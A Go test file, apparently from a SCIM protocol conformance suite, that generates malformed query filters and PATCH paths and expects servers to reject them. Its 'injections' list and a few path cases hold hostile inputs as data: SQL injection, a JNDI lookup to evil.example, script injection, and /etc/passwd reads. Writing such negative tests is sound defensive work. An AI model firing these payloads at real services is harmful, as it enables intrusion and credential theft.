package campaign

import (
	"fmt"
	"math/rand/v2"
	"net/url"
	"strings"

	"meibo/scim"
)

// brokenFilter is a text that is no filter over users, and, where it says so, none over groups.
type brokenFilter struct{ name, text string }

// brokenFilters break each place of the grammar (RFC 7644 §3.4.2.2), its limits and its types.
func brokenFilters() []brokenFilter {
	list := []brokenFilter{
		{"no operator", `userName`}, {"no value", `userName eq`}, {"no attribute", `eq "x"`}, {"value alone", `"x"`}, {"number alone", `7`},
		{"operator alone", `eq`}, {"unknown operator", `userName is "x"`}, {"operator of SQL", `userName like "x%"`}, {"operator of C", `userName == "x"`},
		{"equals sign", `userName="x"`}, {"two operators", `userName eq eq "x"`}, {"two values", `userName eq "x" "y"`},
		{"operator after value", `"x" eq userName`},
		{"and at the end", `userName eq "x" and`}, {"or at the end", `userName eq "x" or`}, {"and at the start", `and userName eq "x"`},
		{"and and", `userName eq "x" and and title pr`}, {"and or", `userName eq "x" and or title pr`}, {"no and", `userName eq "x" title pr`},
		{"comma for and", `userName eq "x", title pr`}, {"ampersands", `userName eq "x" && title pr`}, {"value after pr", `title pr "x"`},
		{"not without parentheses", `not userName eq "x"`}, {"not alone", `not`}, {"not of nothing", `not ()`}, {"exclamation mark", `!(title pr)`},
		{"parentheses of nothing", `()`}, {"open parenthesis", `(userName eq "x"`}, {"closing parenthesis", `userName eq "x")`},
		{"wrong parenthesis", `(userName eq "x"]`},
		{"brackets for parentheses", `[userName eq "x"]`}, {"open bracket", `emails[type eq "work"`}, {"closing bracket", `emails type eq "work"]`},
		{"brackets of nothing", `emails[]`}, {"brackets after brackets", `emails[type eq "a"][type eq "b"]`},
		{"brackets in brackets", `emails[emails[type eq "a"]]`},
		{"brackets after a string", `userName[value eq "x"]`}, {"brackets after a single value", `name[givenName eq "x"]`},
		{"blank before brackets", `emails [type eq "a"]`},
		{"dot after brackets", `emails[type eq "a"]. eq "x"`}, {"no operator after brackets", `emails[type eq "a"].value`},
		{"foreign name in brackets", `emails[userName eq "x"]`},
		{"dot at the end", `name. eq "x"`}, {"dot at the start", `.name eq "x"`}, {"two dots", `name..givenName eq "x"`},
		{"three names", `name.givenName.x eq "y"`},
		{"unknown attribute", `favouriteColour eq "x"`}, {"unknown sub-attribute", `name.favourite eq "x"`},
		{"sub-attribute of a string", `userName.value eq "x"`},
		{"name that is none", `user-Näme eq "x"`}, {"name with a digit first", `1userName eq "x"`}, {"name in quotes", `"userName" eq "x"`},
		{"star", `* eq "x"`},
		{"URN alone", scim.UserSchema + ` eq "x"`}, {"extension alone", scim.EnterpriseUserSchema + ` pr`}, {"URN of nothing", `urn: eq "x"`},
		{"colon at the end", scim.UserSchema + `: eq "x"`},
		{"URN that is none", `http://example.com:userName eq "x"`}, {"unknown name below a URN", scim.UserSchema + `:nothing eq "x"`},
		{"colons", `:::: eq "x"`},
		{"open quote", `userName eq "x`}, {"quote alone", `userName eq "`}, {"single quotes and a blank", `userName eq 'x y'`},
		{"quote in a value", `userName eq "x"y"`},
		{"unknown escape", `userName eq "\x41"`}, {"short escape", `userName eq "\u12"`}, {"escape of no digits", `userName eq "\uzzzz"`},
		{"backslash at the end", `userName eq "x\"`},
		{"escape at the end", `userName eq "\`}, {"NUL escaped", `userName eq "\u0000"`}, {"high surrogate", `userName eq "\ud83d"`},
		{"low surrogate", `userName eq "\ude00"`},
		{"surrogates swapped", `userName eq "\ude00\ud83d"`}, {"control character", "userName eq \"a\x01b\""},
		{"line feed in a value", "userName eq \"a\nb\""}, {"NUL", "userName eq \"a\x00b\""},
		{"control character in a word", "userName eq a\x01b"}, {"line feed", "userName\neq \"x\""}, {"not UTF-8", "userName eq \"\xff\""},
		{"half a character", "userName eq \"\xe6\x9d\""},
		{"no-break space", "userName\u00a0eq \"x\""}, {"invisible mark", "\ufeffuserName eq \"x\""}, {"typographic quotes", "userName eq “x y”"},
		{"greater than null", `userName gt null`}, {"contains null", `userName co null`}, {"contains nothing", `userName co ""`},
		{"starts with nothing", `userName sw ""`},
		{"greater boolean", `active gt true`}, {"boolean that contains", `active co "t"`}, {"word for a boolean", `active eq "yes"`},
		{"number for a boolean", `active eq 1`},
		{"date that is none", `meta.created gt "yesterday"`}, {"date of another country", `meta.created gt "31.01.2026"`},
		{"date without day", `meta.lastModified gt "2026-13-45T25:61:61Z"`},
		{"number for a date", `meta.created gt 7`}, {"date that contains", `meta.created co "2026"`}, {"password", `password eq "x"`},
		{"part of a password", `password sw "x"`},
		{"password is there", `password pr`}, {"complex value compared", `name eq "x"`}, {"address compared", `addresses eq "x"`},
		{"too long", `userName eq "` + strings.Repeat("x", 8<<10) + `"`}, {"too many terms", repeated(65, " or ")},
		{"too deep", strings.Repeat("(", 33) + "title pr" + strings.Repeat(")", 33)},
		{"nots too deep", strings.Repeat("not (", 40) + "title pr" + strings.Repeat(")", 40)}, {"parentheses alone", strings.Repeat("(", 8000)},
		{"brackets alone", strings.Repeat("emails[", 1000)},
		{"names alone", strings.Repeat("userName ", 900)}, {"a long name", strings.Repeat("u", 8000) + ` eq "x"`},
		{"many dots", strings.Repeat("a.", 4000) + `a pr`},
		{"JSON", `{"userName":"x"}`}, {"LDAP", `(&(objectClass=user)(cn=x*))`}, {"OData", `startswith(userName,'x')`},
		{"function", `upper(userName) eq "X"`}, {"query", `SELECT 1`},
	}
	for i, text := range injections {
		list = append(list, brokenFilter{fmt.Sprintf("injection %d", i+1), text})
	}
	return list
}

// injections are texts that break out of one language into another, outside a quoted value.
var injections = []string{
	`userName eq x' OR '1'='1`, `userName eq "x"; DROP TABLE resource; --`, `userName eq "x" OR 1=1`, `1=1`,
	`userName eq "x" union select token from credential`,
	`userName;DELETE eq "x"`, `(SELECT 1) eq "x"`, `userName) OR (1=1 eq "x"`, `userName eq x--y z`, `userName/**/eq/**/"x"`, `userName eq $1 $2`,
	`userName eq ? or ?`,
	`${jndi:ldap://evil.example/x} pr x`, `{{7*7}}`, `<script>alert(1)</script>`, `../../etc/passwd`, `userName eq pg_sleep(10)`,
	`; cat /etc/passwd`, `%s%n%x pr`, `{"$gt":""}`,
}

func repeated(n int, join string) string {
	terms := make([]string, n)
	for i := range terms {
		terms[i] = fmt.Sprintf(`title eq "%d"`, i)
	}
	return strings.Join(terms, join)
}

func filterMutations() []mutation {
	const family = "filter"
	users := both(isListing, aUser)
	var out []mutation
	for _, f := range brokenFilters() {
		out = append(out, badRequest(family, f.name, "invalidFilter", users, func(_ *rand.Rand, s *shot) { s.setParam("filter", url.QueryEscape(f.text)) }))
	}
	tolerate := func(name, text string) {
		out = append(out, badRequest(family, name, "invalidFilter", users, func(_ *rand.Rand, s *shot) { s.setParam("filter", url.QueryEscape(text)) }))
	}
	tolerate("value without quotes", `userName eq nobody@contoso.example`)
	tolerate("single quotes", `userName eq 'nobody'`)
	tolerate("boolean in quotes", `active eq "False"`)
	tolerate("operator in capitals", `USERNAME EQ "nobody"`)
	tolerate("blanks", `   userName    eq     "nobody"   `)
	tolerate("blank alone", `  `)
	tolerate("value that is SQL", `userName eq "' OR 1=1 --"`)
	tolerate("value that is a pattern", `userName sw "%_*"`)
	tolerate("attribute of an unknown extension", `urn:example:Torture:colour eq "x"`)
	tolerate("deepest", strings.Repeat("(", 32)+`userName eq "nobody"`+strings.Repeat(")", 32))
	tolerate("most terms", repeated(64, " or "))
	return append(out,
		mutation{family: family, name: "members of members", fits: both(isListing, aGroup), status: 400, typ: "invalidFilter",
			spoil: func(_ *rand.Rand, s *shot) {
				s.setParam("filter", url.QueryEscape(`members[members.value.value eq "x"]`))
			}},
	)
}

// pathMutations break the path of an operation: the same grammar, but for the comparison around.
func pathMutations() []mutation {
	const family = "path"
	var out []mutation
	for _, p := range []brokenFilter{
		{"comparison", `displayName eq "x"`}, {"two names", `title nickName`}, {"dot at the end", `name.`}, {"dot at the start", `.title`},
		{"two dots", `name..givenName`}, {"three names", `name.givenName.x.y`}, {"star", `*`}, {"JSON pointer", `/emails/0/value`},
		{"JSON path", `$.emails[0].value`},
		{"index", `emails[0].value`}, {"brackets of nothing", `emails[].value`}, {"open bracket", `emails[type eq "work"`},
		{"open bracket and name", `emails[type eq "work".value`},
		{"closing bracket", `emails]`}, {"brackets twice", `emails[type eq "a"][type eq "b"]`}, {"brackets in brackets", `emails[type[value eq "a"]]`},
		{"text after brackets", `emails[type eq "a"]value`}, {"nothing after the dot", `emails[type eq "a"].`},
		{"two names after brackets", `emails[type eq "a"].value.x`},
		{"brackets after a string", `title[value eq "x"]`}, {"brackets after a single value", `name[givenName eq "x"]`},
		{"sub-attribute before brackets", `emails.value[type eq "a"]`},
		{"open quote", `emails[type eq "work].value`}, {"single quotes and a blank", `emails[type eq 'a b'].value`},
		{"unknown operator", `emails[type is "work"].value`},
		{"no operator", `emails[type "work"].value`}, {"no value", `emails[type eq].value`}, {"and at the end", `emails[type eq "a" and].value`},
		{"greater boolean", `emails[primary gt true].value`},
		{"word for a boolean", `emails[primary eq "yes"].value`}, {"NUL escaped", `emails[type eq "\u0000"].value`},
		{"lone surrogate", `emails[type eq "\ud800"].value`}, {"bad escape", `emails[type eq "\q"].value`},
		{"too deep", `emails[` + strings.Repeat("(", 40) + `type pr` + strings.Repeat(")", 40) + `]`},
		{"too long", `emails[type eq "` + strings.Repeat("x", 8<<10) + `"]`},
		{"too many terms", `emails[` + strings.Repeat(`type eq "a" or `, 65) + `type pr]`}, {"parentheses", strings.Repeat("(", 5000)},
		{"SQL", `title'; DROP TABLE resource; --`},
		{"markup", `<b>title</b>`}, {"URN that is none", `http://example.com:title`}, {"core URN alone", scim.UserSchema},
		{"colon at the end", scim.UserSchema + `:`},
		{"URN of nothing", `urn::`}, {"digit first", `1title`}, {"control character", "ti\u0001tle"}, {"letters beyond ASCII", `tïtle`},
		{"comma", `title,nickName`}, {"parenthesised", `(title)`},
	} {
		for _, op := range []string{"add", "replace", "remove"} {
			out = append(out, badRequest(family, op+" "+p.name, "invalidPath", both(isPatching, aUser), func(_ *rand.Rand, s *shot) {
				s.appendOperation(jsonObject{"op": op, "path": p.text, "value": "x"})
			}))
		}
	}
	return out
}
